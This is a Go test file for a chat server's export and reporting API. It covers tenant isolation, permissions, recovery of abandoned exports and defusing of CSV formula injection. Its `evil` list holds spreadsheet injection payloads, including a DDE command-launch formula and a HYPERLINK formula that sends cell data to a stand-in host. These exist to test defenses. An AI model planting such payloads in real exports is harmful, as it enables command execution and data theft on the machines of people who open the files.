package server_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/uniqchat/uniqchat/chat"
)

// freshExport makes an export that nobody begins soon.
func (n *node) freshExport() string {
	ctx := context.Background()
	old, _, err := n.kept.Store.ExportsOf(ctx, n.tenant.ID, "", 100)
	require.NoError(n.t, err)
	for _, e := range old {
		require.NoError(n.t, n.kept.Store.DeleteExport(ctx, n.tenant.ID, e.ID))
	}
	e := chat.Export{
		ID: chat.NewID[chat.Export](), Tenant: n.tenant.ID, Kind: chat.ExportReport, Filters: json.RawMessage(`{"report":"overview"}`), CreatedAt: time.Now(),
		ExpiresAt: time.Now().Add(time.Hour),
	}
	require.NoError(n.t, n.kept.Store.AddExport(ctx, e))
	return e.ID.String()
}

// exported asks for an export and returns its path once it is done.
func (n *node) exported(token string, body any) string {
	n.t.Helper()
	made := n.call("POST", "/api/v1/exports", token, body)
	require.Equal(n.t, 202, made.status, string(made.raw))
	path := "/api/v1/exports/" + made.body["id"].(string)
	require.Eventually(n.t, func() bool {
		state := n.call("GET", path, token, nil).body["state"]
		require.NotEqual(n.t, "failed", state)
		return state == "done"
	}, 30*time.Second, 10*time.Millisecond)
	return path
}

func (n *node) objects() (all []string) {
	_ = filepath.WalkDir(n.shelf, func(path string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			all = append(all, path)
		}
		return nil
	})
	return all
}

// An export is made in the background, is its tenant's alone, and only those have it who may.
func TestExports(t *testing.T) {
	n := start(t, nil)
	_, admin := n.agent(n.tenant.ID, chat.Admin)
	_, lead := n.agent(n.tenant.ID, chat.Supervisor)
	_, stranger := n.agent(n.other.ID, chat.Owner)
	for range 3 {
		v, _ := n.visitor("shop")
		n.conversation(n.tenant.ID, v, "one", "two")
	}
	v, _ := n.visitor("other")
	n.conversation(n.other.ID, v, "elsewhere")

	path := n.exported(admin, `{"kind":"messages","format":"csv"}`)
	rows := n.call("GET", path+"/file", admin, nil).table(t)
	var texts []string
	for i, kind := range column(t, rows, "kind") {
		if kind == "text" {
			texts = append(texts, column(t, rows, "text")[i])
		}
	}
	require.ElementsMatch(t, []string{"one", "two", "one", "two", "one", "two"}, texts)
	done := n.call("GET", path, admin, nil)
	require.EqualValues(t, len(rows)-1, done.body["rows"])
	require.Equal(t, path+"/file", done.body["url"])

	require.Len(t, n.call("GET", n.exported(admin, `{"kind":"visitors"}`)+"/file", admin, nil).table(t), 4)
	require.Len(t, n.call("GET", n.exported(admin, `{"kind":"conversations","filters":{"status":"queued,open"}}`)+"/file", admin, nil).table(t), 4)
	require.Len(t, n.call("GET", n.exported(admin, `{"kind":"conversations","filters":{"until":"2020-01-01T00:00:00Z"}}`)+"/file", admin, nil).table(t), 1)
	report := n.exported(lead, `{"kind":"report","filters":{"report":"volume","interval":"hour","timezone":"Asia/Shanghai"}}`)
	require.Greater(t, len(n.call("GET", report+"/file", lead, nil).table(t)), 7*24)

	// Who may: supervisors reports only, programs by scope, another tenant nothing.
	require.Equal(t, 403, n.call("POST", "/api/v1/exports", lead, `{"kind":"messages"}`).status)
	for _, p := range []string{path, path + "/file"} {
		require.Equal(t, 404, n.call("GET", p, lead, nil).status)
		require.Equal(t, 404, n.call("GET", p, stranger, nil).status)
	}
	require.Equal(t, 404, n.call("DELETE", path, stranger, nil).status)
	require.Len(t, n.call("GET", "/api/v1/exports", lead, nil).data(), 1)
	require.Len(t, n.call("GET", "/api/v1/exports", admin, nil).data(), 5)
	require.Empty(t, n.call("GET", "/api/v1/exports", stranger, nil).data())
	_, reports := n.apiToken(n.tenant.ID, chat.ReportsRead)
	_, both := n.apiToken(n.tenant.ID, chat.ReportsRead|chat.VisitorsRead)
	require.Equal(t, "scope_missing", n.call("POST", "/api/v1/exports", reports, `{"kind":"visitors"}`).code())
	require.Equal(t, 202, n.call("POST", "/api/v1/exports", both, `{"kind":"visitors"}`).status)

	for _, bad := range []string{
		`{"kind":"agents"}`, `{"kind":"report"}`, `{"kind":"report","filters":{"report":"x"}}`, `{"kind":"report","filters":{"report":"volume","timezone":"Mars"}}`,
		`{"kind":"messages","filters":{"report":"volume"}}`, `{"kind":"messages","filters":{"status":"x"}}`, `{"kind":"messages","filters":{"team":"x"}}`,
		`{"kind":"messages","format":"xlsx"}`,
	} {
		require.Equal(t, 400, n.call("POST", "/api/v1/exports", admin, bad).status, bad)
	}

	// Deleted: the file, too.
	require.Eventually(t, func() bool { return len(n.objects()) == 6 }, 10*time.Second, time.Millisecond)
	before := len(n.objects())
	require.Equal(t, 204, n.call("DELETE", path, admin, nil).status)
	require.Equal(t, 404, n.call("GET", path, admin, nil).status)
	require.Equal(t, 404, n.call("GET", path+"/file", admin, nil).status)
	require.Len(t, n.objects(), before-1)
}

// What a node has begun and not finished, another one makes anew; what fails all the time is given up.
func TestExportsOfDeadNodes(t *testing.T) {
	n := start(t, nil)
	_, admin := n.agent(n.tenant.ID, chat.Admin)
	ctx := context.Background()
	begun := func(attempts int) string {
		e := chat.Export{
			ID: chat.NewID[chat.Export](), Tenant: n.tenant.ID, Kind: chat.ExportVisitors, Filters: json.RawMessage(`{}`), CreatedAt: time.Now(),
			ExpiresAt: time.Now().Add(time.Hour),
		}
		require.NoError(t, n.kept.Store.AddExport(ctx, e))
		for range attempts {
			got, err := n.kept.Store.ClaimExport(ctx, time.Now(), time.Now().Add(-time.Second)) // and then it is dead
			if err != nil || got.ID != e.ID {
				return e.ID.String() // the server was faster
			}
		}
		return e.ID.String()
	}
	for attempts, state := range map[int]string{0: "done", 1: "done", 2: "done", 4: "failed"} {
		path := "/api/v1/exports/" + begun(attempts)
		require.Eventually(t, func() bool {
			s := n.call("GET", path, admin, nil).body["state"]
			return s == state || attempts == 4 && s == "done" // if the server was faster
		}, 20*time.Second, 20*time.Millisecond)
	}
}

// evil is what spreadsheets execute, in all the clothes that OWASP and others know.
var evil = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", " =1+1", "　=1+1", "\ufeff=1+1", `"=1+1"`, `'=1+1`, "＝1+1", "＋1+1", "－1+1",
	"＠SUM(1)", "hello\n=1+1", "hello\r\n+1", `x;=1+1`, `=HYPERLINK("https://x.test/?"&A1,"click")`, "-2+3+cmd|' /C calc'!E1",
}

// harmless reports whether no spreadsheet executes a cell, wherever it takes it to begin.
func harmless(cell string) bool {
	for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune("\r\n\t;", r) }) {
		part = strings.TrimLeft(part, " 　\ufeff\"")
		if part != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(part)[0]) {
			return false
		}
	}
	return cell == "" || !strings.ContainsRune("\t\r\n", rune(cell[0]))
}

// TestCSVFormulas puts formulas wherever somebody else than the reader of a table may write: names, addresses and attributes of visitors,
// messages, labels, ratings, agents and teams. No cell of any table is one.
func TestCSVFormulas(t *testing.T) {
	n := start(t, nil)
	ctx := context.Background()
	boss, admin := n.agent(n.tenant.ID, chat.Admin)
	for _, e := range evil {
		agent := boss
		agent.ID, agent.Name, agent.Email = chat.NewID[chat.Agent](), e, chat.NewID[chat.Agent]().String()+"@x.test"
		require.NoError(t, n.kept.Store.SaveAgents(ctx, agent))
		require.NoError(t, n.kept.Store.SaveTeam(ctx, chat.Team{ID: chat.NewID[chat.Team](), Tenant: n.tenant.ID, Name: e, CreatedAt: time.Now()}))
		label := n.call("POST", "/api/v1/labels", admin, map[string]string{"name": e})
		n.evilConversation(e, admin, label)
	}
	tables := map[string][][]string{}
	for _, kind := range []string{"conversations", "messages", "visitors"} {
		tables[kind] = n.call("GET", n.exported(admin, map[string]string{"kind": kind})+"/file", admin, nil).table(t)
	}
	tables["exported agents"] = n.call("GET", n.exported(admin, `{"kind":"report","filters":{"report":"agents"}}`)+"/file", admin, nil).table(t)
	for _, report := range []string{"agents", "teams", "queue"} {
		tables[report] = n.call("GET", "/api/v1/reports/"+report+"?format=csv", admin, nil).table(t)
	}
	for table, rows := range tables {
		for _, row := range rows {
			for i, cell := range row {
				require.True(t, harmless(cell), "%s, %s: %q", table, rows[0][i], cell)
			}
		}
	}
	for table, head := range map[string]string{"agents": "name", "teams": "name", "visitors": "name", "messages": "text", "conversations": "rating_comment"} {
		defused := 0
		for _, cell := range column(t, tables[table], head) {
			if strings.Contains(cell, "'") {
				defused++
			}
		}
		require.GreaterOrEqual(t, defused, len(evil), "%s, %s: the formulas are there, to be read", table, head)
	}
}

// evilConversation is one in which everything that a visitor says of itself is a text.
func (n *node) evilConversation(text, admin string, label *answer) {
	ctx := context.Background()
	desk := chat.NewDesk(chat.DeskConfig{Log: n.kept.Log, Store: n.kept.Store, Broker: n.kept.Broker})
	id, visitor := chat.NewID[chat.Conversation](), chat.NewID[chat.Visitor]()
	attributes, err := json.Marshal(map[string]string{text: text})
	require.NoError(n.t, err)
	actor := &chat.Actor{Tenant: n.tenant.ID, User: chat.UserID(visitor), Role: chat.RoleVisitor, Name: text, Profile: &chat.Visitor{
		ExternalID: text, Name: text, Email: text, Locale: text, Page: text, Attributes: attributes,
	}}
	body, err := json.Marshal(map[string]string{"text": text})
	require.NoError(n.t, err)
	sent := desk.Send(ctx, []chat.SendRequest{{Actor: actor, Conversation: id, CMID: chat.NewID[chat.Event](), Body: body}})
	require.NoError(n.t, sent[0].Err)
	require.NoError(n.t, desk.Rate(ctx, actor, id, chat.Rating{Score: 1, Comment: text}))
	if label.status == 201 {
		require.Equal(n.t, 200, n.call("POST", "/api/v1/conversations/"+id.String()+"/labels", admin, map[string]any{"add": []any{label.body["id"]}}).status)
	}
}
